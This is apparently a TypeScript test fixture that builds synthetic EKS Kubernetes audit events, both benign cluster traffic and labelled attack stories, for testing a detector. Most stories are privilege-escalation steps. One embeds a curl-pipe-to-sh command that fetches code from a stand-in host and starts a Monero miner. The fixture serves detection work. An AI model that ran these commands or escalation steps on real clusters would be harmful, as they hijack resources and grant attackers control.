import { execFileSync } from 'node:child_process'
import type { AuditEvent } from '../../src/model/audit-event.js'

/**
 * A labelled audit corpus written for falconet's tests: ordinary EKS traffic (kubelets,
 * controllers, aws-node, coredns, cluster-autoscaler, a CI deployer, people reading) and attack
 * stories mixed into it. Each story says the least severity a detection must give it. Events are
 * EKS-shaped (IAM principals in user.extra, VPC source addresses), made here, not copied.
 */
export interface Story {
  name: string
  /** The least ASFF label that counts as detected. */
  atLeast: 'INFORMATIONAL' | 'LOW' | 'MEDIUM' | 'HIGH'
  events: AuditEvent[]
}

const T0 = Date.parse('2026-11-21T08:00:00Z')
let seq = 0
const ACCOUNT = '111122223333'
const REGISTRY = `${ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com`
const EKS_REGISTRY = '602401143452.dkr.ecr.eu-west-1.amazonaws.com'
const NODES = ['ip-10-0-1-10.eu-west-1.compute.internal', 'ip-10-0-2-20.eu-west-1.compute.internal', 'ip-10-0-3-30.eu-west-1.compute.internal']

type Who = NonNullable<AuditEvent['user']>
const iam = (username: string, role: string, session: string, account = ACCOUNT): Who => ({
  username,
  groups: ['system:authenticated'],
  extra: { arn: [`arn:aws:sts::${account}:assumed-role/${role}/${session}`], canonicalArn: [`arn:aws:iam::${account}:role/${role}`], sessionName: [session], accessKeyId: ['ASIAEXAMPLE'] },
})
const sa = (ns: string, name: string): Who => ({ username: `system:serviceaccount:${ns}:${name}`, groups: ['system:serviceaccounts', `system:serviceaccounts:${ns}`, 'system:authenticated'] })
const node = (n: string): Who => ({ username: `system:node:${n}`, groups: ['system:nodes', 'system:authenticated'], extra: { arn: [`arn:aws:sts::${ACCOUNT}:assumed-role/eks-nodes/i-0${n.length}abc`], canonicalArn: [`arn:aws:iam::${ACCOUNT}:role/eks-nodes`], sessionName: ['i-0abc'] } })
const system = (username: string): Who => ({ username, groups: ['system:authenticated'] })

const ALICE = iam('alice', 'PlatformAdmin', 'alice@example.com')
const CI = iam('ci-deployer', 'GitHubActionsDeployer', 'gha-run-4711')
const DEV = iam('dev-bob', 'Developer', 'bob@example.com')
const CERT_ADMIN: Who = { username: 'kubernetes-admin', groups: ['system:masters', 'system:authenticated'] }

export function ev(user: Who, verb: string, ref: AuditEvent['objectRef'], over: Partial<AuditEvent> = {}, at?: number): AuditEvent {
  const t = at ?? T0 + seq * 700
  const n = seq++
  const path = ref?.namespace ? `/api/v1/namespaces/${ref.namespace}/${ref.resource}${ref.name ? `/${ref.name}` : ''}${ref.subresource ? `/${ref.subresource}` : ''}` : `/api/v1/${ref?.resource ?? ''}${ref?.name ? `/${ref.name}` : ''}`
  const code = verb === 'create' ? 201 : 200
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'RequestResponse',
    auditID: `c0rpu5-${n.toString(16).padStart(6, '0')}`,
    stage: 'ResponseComplete',
    requestURI: path,
    verb,
    user,
    sourceIPs: [(user.username ?? '').startsWith('system:') ? `10.0.${(n % 3) + 1}.${10 + (n % 200)}` : '198.51.100.24'],
    userAgent: (user.username ?? '').startsWith('system:node') ? 'kubelet/v1.33.4 (linux/amd64) kubernetes/abc' : (user.username ?? '').startsWith('system:serviceaccount') ? 'controller/v1.33.4' : 'kubectl/v1.33.0 (linux/amd64) kubernetes/abc',
    objectRef: ref,
    responseStatus: { code },
    requestReceivedTimestamp: new Date(t).toISOString(),
    stageTimestamp: new Date(t + 30).toISOString(),
    annotations: { 'authorization.k8s.io/decision': 'allow', 'authorization.k8s.io/reason': 'RBAC: allowed' },
    ...over,
  }
}
const denied = { responseStatus: { code: 403, reason: 'Forbidden' }, annotations: { 'authorization.k8s.io/decision': 'forbid', 'authorization.k8s.io/reason': '' } }
const pod = (containers: unknown[], extra: Record<string, unknown> = {}) => ({ kind: 'Pod', apiVersion: 'v1', metadata: { generateName: 'x-' }, spec: { containers, ...extra } })
const deployment = (name: string, containers: unknown[], extra: Record<string, unknown> = {}) => ({ kind: 'Deployment', apiVersion: 'apps/v1', metadata: { name }, spec: { replicas: 2, template: { metadata: { labels: { app: name } }, spec: { containers, ...extra } } } })

export function benignTraffic(rounds = 30): AuditEvent[] {
  const out: AuditEvent[] = []
  for (let i = 0; i < rounds; i++) {
    const n = NODES[i % 3]!
    out.push(
      ev(node(n), 'patch', { resource: 'nodes', subresource: 'status', name: n }),
      ev(node(n), 'update', { resource: 'leases', namespace: 'kube-node-lease', name: n, apiGroup: 'coordination.k8s.io' }),
      ev(node(n), 'get', { resource: 'secrets', namespace: 'shop', name: 'web-db' }),
      ev(node(n), 'create', { resource: 'serviceaccounts', subresource: 'token', namespace: 'shop', name: 'web' }),
      ev(system('system:kube-controller-manager'), 'update', { resource: 'leases', namespace: 'kube-system', name: 'kube-controller-manager', apiGroup: 'coordination.k8s.io' }),
      ev(system('system:kube-scheduler'), 'create', { resource: 'pods', subresource: 'binding', namespace: 'shop', name: `web-${i}` }),
      ev(
        sa('kube-system', 'replicaset-controller'),
        'create',
        { resource: 'pods', namespace: 'shop' },
        {
          requestObject: pod([
            { name: 'web', image: `${REGISTRY}/web:2.${i}` },
            { name: 'envoy', image: 'public.ecr.aws/appmesh/aws-appmesh-envoy:v1.29' },
          ]),
        },
      ),
      ev(
        sa('kube-system', 'daemon-set-controller'),
        'create',
        { resource: 'pods', namespace: 'kube-system' },
        {
          requestObject: pod([{ name: 'aws-node', image: `${EKS_REGISTRY}/amazon-k8s-cni:v1.19.0`, securityContext: { privileged: true } }], {
            hostNetwork: true,
            volumes: [
              { name: 'cni', hostPath: { path: '/etc/cni/net.d' } },
              { name: 'run', hostPath: { path: '/var/run/aws-node' } },
              { name: 'xtables', hostPath: { path: '/run/xtables.lock' } },
            ],
          }),
        },
      ),
      ev(
        sa('kube-system', 'daemon-set-controller'),
        'create',
        { resource: 'pods', namespace: 'kube-system' },
        { requestObject: pod([{ name: 'kube-proxy', image: `${EKS_REGISTRY}/eks/kube-proxy:v1.33.0-eksbuild.2`, securityContext: { privileged: true } }], { hostNetwork: true, volumes: [{ name: 'modules', hostPath: { path: '/lib/modules' } }] }) },
      ),
      ev(sa('kube-system', 'aws-node'), 'get', { resource: 'nodes', name: n }),
      ev(sa('kube-system', 'aws-node'), 'list', { resource: 'pods' }),
      ev(sa('kube-system', 'coredns'), 'watch', { resource: 'endpointslices', apiGroup: 'discovery.k8s.io' }),
      ev(sa('kube-system', 'coredns'), 'list', { resource: 'namespaces' }),
      ev(sa('kube-system', 'cluster-autoscaler'), 'update', { resource: 'configmaps', namespace: 'kube-system', name: 'cluster-autoscaler-status' }, { requestObject: { kind: 'ConfigMap', metadata: { name: 'cluster-autoscaler-status' }, data: { status: 'Cluster-autoscaler status at 2026-11-21: Health: Healthy' } } }),
      ev(sa('kube-system', 'cluster-autoscaler'), 'list', { resource: 'nodes' }),
      ev(sa('kube-system', 'generic-garbage-collector'), 'delete', { resource: 'pods', namespace: 'shop', name: `web-old-${i}` }),
      ev(system('eks:certificate-controller'), 'get', { resource: 'certificatesigningrequests', name: `csr-${i}` }),
      ev(system('eks:node-manager'), 'get', { resource: 'configmaps', namespace: 'kube-system', name: 'aws-auth' }),
      ev(system('system:anonymous'), 'get', undefined, { requestURI: '/livez', objectRef: undefined as never }),
      ev(ALICE, 'list', { resource: 'pods', namespace: 'shop' }),
      ev(DEV, 'get', { resource: 'deployments', namespace: 'shop', name: 'web', apiGroup: 'apps' }),
      ev(sa('shop', 'web'), 'get', { resource: 'configmaps', namespace: 'shop', name: 'web-config' }),
      ev(sa('external-secrets', 'external-secrets'), 'update', { resource: 'secrets', namespace: 'shop', name: 'web-db' }),
    )
    if (i % 3 === 0) {
      // The kubelet rotating its serving certificate, approved by EKS.
      out.push(
        ev(
          node(n),
          'create',
          { resource: 'certificatesigningrequests', name: `csr-k${i}`, apiGroup: 'certificates.k8s.io' },
          { requestObject: { kind: 'CertificateSigningRequest', metadata: { generateName: 'csr-' }, spec: { request: csrPem(`/O=system:nodes/CN=system:node:${n}`), signerName: 'kubernetes.io/kubelet-serving', usages: ['digital signature', 'server auth'] } } },
        ),
      )
      out.push(ev(system('eks:certificate-controller'), 'update', { resource: 'certificatesigningrequests', subresource: 'approval', name: `csr-k${i}` }))
    }
    if (i % 5 === 0) {
      // A CI run: the app's deployment, config, service, and its IRSA service account, all in the app's namespace.
      out.push(
        ev(CI, 'patch', { resource: 'deployments', namespace: 'shop', name: 'web', apiGroup: 'apps' }, { requestObject: deployment('web', [{ name: 'web', image: `${REGISTRY}/web:2.${i}`, args: ['--port=8080'] }]) }),
        ev(
          CI,
          'create',
          { resource: 'configmaps', namespace: 'shop', name: `web-config-${i}` },
          {
            requestObject: { kind: 'ConfigMap', metadata: { name: `web-config-${i}` }, data: { LOG_LEVEL: 'info', FEATURE_FLAGS: 'checkout-v2', DB_PASSWORD_FILE: '/run/secrets/db/password', 'application.properties': 'spring.datasource.url=jdbc:postgresql://db:5432/shop\nspring.datasource.password=${DB_PASSWORD}\n' } },
          },
        ),
        ev(CI, 'patch', { resource: 'services', namespace: 'shop', name: 'web' }, { requestObject: { kind: 'Service', metadata: { name: 'web' }, spec: { type: 'ClusterIP', ports: [{ port: 80 }] } } }),
        ev(CI, 'patch', { resource: 'serviceaccounts', namespace: 'shop', name: 'web' }, { requestObject: { kind: 'ServiceAccount', metadata: { name: 'web', annotations: { 'eks.amazonaws.com/role-arn': `arn:aws:iam::${ACCOUNT}:role/shop-web` } } } }),
        ev(CI, 'create', { resource: 'jobs', namespace: 'shop', name: `migrate-${i}`, apiGroup: 'batch' }, { requestObject: { kind: 'Job', metadata: { name: `migrate-${i}` }, spec: { template: { spec: { containers: [{ name: 'migrate', image: `${REGISTRY}/web:2.${i}`, command: ['./migrate'] }] } } } } }),
      )
    }
  }
  return out
}

const csrCache = new Map<string, string>()
export function csrPem(subject: string): string {
  let pem = csrCache.get(subject)
  if (!pem) {
    pem = execFileSync('openssl', ['req', '-new', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-keyout', '/dev/null', '-subj', subject], { stdio: ['ignore', 'pipe', 'ignore'] }).toString('base64')
    csrCache.set(subject, pem)
  }
  return pem
}

/** Addresses the labelled set's threat lists hold (written to files by the test). */
export const TOR_EXIT = '185.220.101.45'
export const BLOCKLISTED = '203.0.113.250'

export function attackStories(): Story[] {
  const stolen = sa('shop', 'web')
  const mallory = iam('mallory', 'Developer', 'mallory@example.com')
  return [
    { name: 'stolen service account token looks for Secrets', atLeast: 'LOW', events: [ev(stolen, 'list', { resource: 'secrets', namespace: 'shop' }, denied), ev(stolen, 'get', { resource: 'secrets', namespace: 'kube-system', name: 'aws-credentials' }, denied), ev(stolen, 'list', { resource: 'secrets' }, denied)] },
    {
      name: 'cross-account IRSA pivot in kube-system',
      atLeast: 'HIGH',
      events: [ev(mallory, 'create', { resource: 'serviceaccounts', namespace: 'kube-system', name: 'node-metrics' }, { requestObject: { kind: 'ServiceAccount', metadata: { name: 'node-metrics', annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::444455556666:role/attacker' } } } })],
    },
    { name: 'plain service account in kube-system by a person', atLeast: 'MEDIUM', events: [ev(ALICE, 'create', { resource: 'serviceaccounts', namespace: 'kube-system', name: 'helper' }, { requestObject: { kind: 'ServiceAccount', metadata: { name: 'helper' } } })] },
    {
      name: 'stolen aws-node token looks for Secrets',
      atLeast: 'LOW',
      events: [ev(sa('kube-system', 'aws-node'), 'list', { resource: 'secrets', namespace: 'kube-system' }, denied), ev(sa('kube-system', 'aws-node'), 'get', { resource: 'secrets', namespace: 'prod', name: 'db' }, denied), ev(sa('kube-system', 'aws-node'), 'list', { resource: 'secrets' }, denied)],
    },
    {
      name: 'cross-account role on a kube-system service account by server-side apply, as the certificate admin',
      atLeast: 'HIGH',
      events: [
        ev(
          CERT_ADMIN,
          'patch',
          { resource: 'serviceaccounts', namespace: 'kube-system', name: 'collector' },
          { responseStatus: { code: 201 }, requestObject: { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'collector', annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::444455556666:role/collector' } } } },
        ),
      ],
    },
    { name: 'NodePort backdoor service', atLeast: 'LOW', events: [ev(mallory, 'create', { resource: 'services', namespace: 'shop', name: 'ssh' }, { requestObject: { kind: 'Service', metadata: { name: 'ssh' }, spec: { type: 'NodePort', ports: [{ port: 22, nodePort: 31222 }] } } })] },
    {
      name: 'system:masters certificate requested and approved',
      atLeast: 'HIGH',
      events: [
        ev(
          mallory,
          'create',
          { resource: 'certificatesigningrequests', name: 'mallory-admin', apiGroup: 'certificates.k8s.io' },
          { requestObject: { kind: 'CertificateSigningRequest', metadata: { name: 'mallory-admin' }, spec: { request: csrPem('/O=system:masters/CN=mallory'), signerName: 'kubernetes.io/kube-apiserver-client', usages: ['client auth'] } } },
        ),
      ],
    },
    { name: 'impersonating system:admin', atLeast: 'MEDIUM', events: [ev(DEV, 'list', { resource: 'secrets', namespace: 'kube-system' }, { impersonatedUser: { username: 'system:admin', groups: ['system:masters'] } })] },
    {
      name: 'cryptominer deployment with stolen CI credentials',
      atLeast: 'HIGH',
      events: [
        ev(
          CI,
          'create',
          { resource: 'deployments', namespace: 'shop', name: 'cache-warmer', apiGroup: 'apps' },
          { requestObject: deployment('cache-warmer', [{ name: 'w', image: 'alpine:3.20', command: ['sh', '-c'], args: ['apk add curl && curl -sL http://x/x | sh -s -- -o stratum+tcp://pool.minexmr.com:4444 -u 47abc'] }]) },
        ),
      ],
    },
    {
      name: 'miner image in a cron job',
      atLeast: 'HIGH',
      events: [
        ev(
          mallory,
          'create',
          { resource: 'cronjobs', namespace: 'batch', name: 'nightly', apiGroup: 'batch' },
          { requestObject: { kind: 'CronJob', metadata: { name: 'nightly' }, spec: { schedule: '*/5 * * * *', jobTemplate: { spec: { template: { spec: { containers: [{ name: 'n', image: 'docker.io/xmrig/xmrig:6.21' }] } } } } } } },
        ),
      ],
    },
    {
      name: 'exec logged at ResponseStarted only',
      atLeast: 'LOW',
      events: [ev(mallory, 'create', { resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'web-1' }, { stage: 'ResponseStarted', responseStatus: { code: 101 }, requestURI: '/api/v1/namespaces/shop/pods/web-1/exec?command=sh&stdin=true&tty=true' })],
    },
    {
      name: 'pods/exec cluster role by the certificate admin',
      atLeast: 'MEDIUM',
      events: [ev(CERT_ADMIN, 'create', { resource: 'clusterroles', name: 'debugger', apiGroup: 'rbac.authorization.k8s.io' }, { requestObject: { kind: 'ClusterRole', metadata: { name: 'debugger' }, rules: [{ apiGroups: [''], resources: ['pods', 'pods/exec'], verbs: ['get', 'create'] }] } })],
    },
    {
      name: 'privileged sidecar through a deployment',
      atLeast: 'MEDIUM',
      events: [
        ev(
          mallory,
          'create',
          { resource: 'deployments', namespace: 'shop', name: 'web-canary', apiGroup: 'apps' },
          {
            requestObject: deployment('web-canary', [
              { name: 'web', image: `${REGISTRY}/web:2.0` },
              { name: 'debug', image: 'busybox:1.36', securityContext: { privileged: true } },
            ]),
          },
        ),
        ev(
          sa('kube-system', 'replicaset-controller'),
          'create',
          { resource: 'pods', namespace: 'shop' },
          {
            requestObject: pod([
              { name: 'web', image: `${REGISTRY}/web:2.0` },
              { name: 'debug', image: 'busybox:1.36', securityContext: { privileged: true } },
            ]),
          },
        ),
      ],
    },
    { name: 'Secrets listed from a Tor exit', atLeast: 'HIGH', events: [ev(ALICE, 'list', { resource: 'secrets', namespace: 'shop' }, { sourceIPs: [TOR_EXIT] })] },
    { name: 'refused call from a block-listed address', atLeast: 'MEDIUM', events: [ev(iam('unknown', 'ReadOnly', 'x'), 'list', { resource: 'nodes' }, { sourceIPs: [BLOCKLISTED], ...denied })] },
    { name: 'anonymous access allowed', atLeast: 'HIGH', events: [ev(system('system:anonymous'), 'list', { resource: 'pods' }, { requestURI: '/api/v1/pods', sourceIPs: ['192.0.2.99'] })] },
    {
      name: 'cluster-admin for the default service account',
      atLeast: 'HIGH',
      events: [ev(mallory, 'create', { resource: 'clusterrolebindings', name: 'default-admin' }, { requestObject: { kind: 'ClusterRoleBinding', metadata: { name: 'default-admin' }, roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'shop' }] } })],
    },
    { name: 'aws-auth edited by a person', atLeast: 'MEDIUM', events: [ev(mallory, 'patch', { resource: 'configmaps', namespace: 'kube-system', name: 'aws-auth' }, { requestObject: { data: { mapRoles: '- rolearn: arn:aws:iam::444455556666:role/x\n  username: x\n  groups: [system:masters]' } } })] },
    { name: 'port-forward to the database', atLeast: 'LOW', events: [ev(mallory, 'create', { resource: 'pods', subresource: 'portforward', namespace: 'shop', name: 'db-0' }, { stage: 'ResponseStarted', responseStatus: { code: 101 } })] },
    { name: 'container runtime socket mounted', atLeast: 'MEDIUM', events: [ev(mallory, 'create', { resource: 'pods', namespace: 'shop', name: 'tools' }, { requestObject: pod([{ name: 't', image: 'ubuntu:24.04' }], { volumes: [{ name: 'sock', hostPath: { path: '/run/containerd/containerd.sock' } }] }) })] },
    { name: 'AWS keys in a ConfigMap', atLeast: 'MEDIUM', events: [ev(DEV, 'create', { resource: 'configmaps', namespace: 'shop', name: 'legacy' }, { requestObject: { kind: 'ConfigMap', metadata: { name: 'legacy' }, data: { AWS_ACCESS_KEY_ID: 'AKIAIOSFODNN7EXAMPLE', region: 'eu-west-1' } } })] },
    { name: 'nginx pod in kube-system by a person', atLeast: 'MEDIUM', events: [ev(mallory, 'create', { resource: 'pods', namespace: 'kube-system', name: 'kube-dns-helper' }, { requestObject: pod([{ name: 'n', image: 'nginx:1.27' }]) })] },
    { name: 'system cluster role edited by a person', atLeast: 'MEDIUM', events: [ev(mallory, 'patch', { resource: 'clusterroles', name: 'system:aggregate-to-view' }, { requestObject: [{ op: 'add', path: '/rules/-', value: { apiGroups: [''], resources: ['secrets'], verbs: ['get'] } }] })] },
    { name: 'debug container added to a running pod', atLeast: 'MEDIUM', events: [ev(mallory, 'patch', { resource: 'pods', subresource: 'ephemeralcontainers', namespace: 'shop', name: 'web-1' })] },
    { name: 'exec into a kube-system pod', atLeast: 'MEDIUM', events: [ev(DEV, 'create', { resource: 'pods', subresource: 'exec', namespace: 'kube-system', name: 'aws-node-abcde' }, { stage: 'ResponseStarted', responseStatus: { code: 101 } })] },
    {
      name: 'binding to cluster-admin',
      atLeast: 'MEDIUM',
      events: [ev(mallory, 'create', { resource: 'clusterrolebindings', name: 'mallory-admin' }, { requestObject: { kind: 'ClusterRoleBinding', metadata: { name: 'mallory-admin' }, roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'mallory' }] } })],
    },
  ]
}
